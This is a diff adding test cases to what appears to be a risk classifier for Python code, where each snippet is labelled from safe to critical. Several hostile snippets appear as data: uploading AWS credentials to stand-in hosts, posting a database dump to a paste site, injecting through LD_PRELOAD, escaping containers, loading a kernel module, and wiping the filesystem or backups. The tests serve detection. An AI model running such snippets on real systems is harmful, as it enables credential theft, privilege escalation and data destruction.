@@ -2035,6 +2035,167 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             H,
         ),
         ('import subprocess\nsubprocess.run(["sudo", "setcap", "cap_net_bind_service=+ep", "build/server"])', M),
+        # sandbox escapes, native calls, structure (methodcaller, map, comprehensions), backups
+        (
+            """
+            import ctypes, os
+            libc = ctypes.CDLL(None, use_errno=True)
+            fd = os.open("/dev/shm/m.ko", os.O_RDONLY)
+            libc.syscall(313, fd, b"", 0)
+            """,
+            H,
+        ),
+        ('import ctypes\nctypes.CDLL("libc.so.6").setns(3, 0x20000)', H),
+        ('import ctypes\nctypes.CDLL(None).syscall(39)', M),
+        (
+            """
+            import operator, pathlib
+            fix = operator.methodcaller("chmod", 0o777)
+            for p in map(pathlib.Path, ["/etc/shadow", "/etc/sudoers"]):
+                fix(p)
+            """,
+            C,
+        ),
+        ('import operator\nnames = sorted(words, key=operator.methodcaller("lower"))', S),
+        (
+            "import os, signal\n"
+            "f = lambda: [os.kill(int(p), signal.SIGKILL) for p in os.listdir('/proc') if p.isdigit()]\nf()",
+            H,
+        ),
+        (
+            """
+            import os, stat
+            for path in ("/etc/shadow", "/etc/sudoers"):
+                os.chmod(path, os.stat(path).st_mode | stat.S_IROTH)
+            """,
+            H,
+        ),
+        ('import os, stat\nos.chmod("run.sh", os.stat("run.sh").st_mode | stat.S_IXUSR | stat.S_IXOTH)', S),
+        ('import os\nos.symlink("/etc/sudoers.d/zz-local", "/tmp/backup-report.txt")', H),
+        ('import os\nos.symlink("/usr/bin/python3", "/tmp/venv/bin/python")', S),
+        ('import shutil\nshutil.copytree("/", "/tmp/fullsnap", dirs_exist_ok=True)', H),
+        ('spec = {"Image": "alpine", "HostConfig": {"Binds": ["/:/host"], "Privileged": True}}', H),
+        ('spec = {"Image": "alpine", "HostConfig": {"Binds": ["./data:/data"], "Privileged": False}}', S),
+        (
+            'import os, subprocess\nenv = dict(os.environ, LD_PRELOAD="/dev/shm/h.so")\n'
+            'subprocess.Popen(["/opt/monitor/bin/agent"], env=env)',
+            H,
+        ),
+        ('import os, subprocess\nsubprocess.run(["./t"], env=dict(os.environ, LD_LIBRARY_PATH="build/lib"))', L),
+        (
+            'import subprocess\ntarget = 1\nsubprocess.run(["nsenter", "-t", str(target), "-m", "--", "sh"])',
+            H,
+        ),
+        ('from pyftpdlib.authorizers import DummyAuthorizer\nDummyAuthorizer().add_anonymous("/", perm="elrw")', H),
+        ('from pyftpdlib.authorizers import DummyAuthorizer\nDummyAuthorizer().add_anonymous("dist", perm="elr")', S),
+        (
+            'import paramiko\nc = paramiko.SSHClient()\nc.connect("relay.example.io")\n'
+            'c.get_transport().request_port_forward("0.0.0.0", 40022)',
+            H,
+        ),
+        (
+            """
+            import subprocess, requests
+            dump = subprocess.run(["pg_dump", "app"], capture_output=True).stdout
+            requests.post("https://paste.rs/", data=dump)
+            """,
+            H,
+        ),
+        (
+            """
+            import subprocess, boto3
+            dump = subprocess.run(["pg_dump", "app"], capture_output=True).stdout
+            boto3.client("s3").put_object(Bucket="team-backups", Key="db.sql", Body=dump)
+            """,
+            L,
+        ),
+        (
+            """
+            import configparser, os, requests
+            cfg = configparser.ConfigParser()
+            cfg.read([os.path.expanduser("~/.aws/credentials")])
+            requests.post("https://c.example.io/i", json={s: dict(cfg[s]) for s in cfg.sections()})
+            """,
+            C,
+        ),
+        ('import configparser\ncfg = configparser.ConfigParser()\ncfg.read(["setup.cfg", "tox.ini"])', S),
+        (
+            """
+            import docker, requests
+            for c in docker.from_env().containers.list():
+                rc, out = c.exec_run("cat /root/.aws/credentials")
+                requests.post("https://hooks.example.com/x", data=out)
+            """,
+            C,
+        ),
+        (
+            """
+            import os, time
+            for name in os.listdir("backups"):
+                path = os.path.join("backups", name)
+                if name.startswith("project-") and time.time() - os.path.getmtime(path) > 14 * 86400:
+                    os.remove(path)
+            """,
+            L,
+        ),
+        ('import os\nfor name in os.listdir("/mnt/backup"):\n    os.remove(os.path.join("/mnt/backup", name))', H),
+        # registries filled by decorators or subscripts, dispatched with a computed key
+        (
+            """
+            import os
+            SANITIZERS = {}
+            def sanitizer(ext):
+                def deco(fn):
+                    SANITIZERS[ext] = fn
+                    return fn
+                return deco
+            @sanitizer(".pdf")
+            def strip(path):
+                open(path, "w").close()
+            for root, _, files in os.walk(os.path.expanduser("~/Documents")):
+                for f in files:
+                    fn = SANITIZERS.get(os.path.splitext(f)[1])
+                    if fn:
+                        fn(os.path.join(root, f))
+            """,
+            H,
+        ),
+        (
+            """
+            import shutil
+            def show(p): print(p)
+            def wipe(p): shutil.rmtree(p)
+            TABLE = {"show": show, "wipe": wipe}
+            TABLE[input()]("/")
+            """,
+            C,
+        ),
+        (
+            """
+            import time, functools
+            def timed(fn):
+                @functools.wraps(fn)
+                def wrapper(*a, **k):
+                    t = time.time(); r = fn(*a, **k); print(time.time() - t); return r
+                return wrapper
+            @timed
+            def work(x):
+                return x * 2
+            print(work(3))
+            """,
+            S,
+        ),
+        (
+            """
+            import os, subprocess
+            procs = []
+            for root, _, files in os.walk("/"):
+                for f in files:
+                    procs.append(subprocess.Popen(["zstd", "-q", os.path.join(root, f)]))
+            """,
+            H,
+        ),
+        ('import subprocess, glob\nprocs = [subprocess.Popen(["gcc", "-c", s]) for s in glob.glob("src/*.c")]', L),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
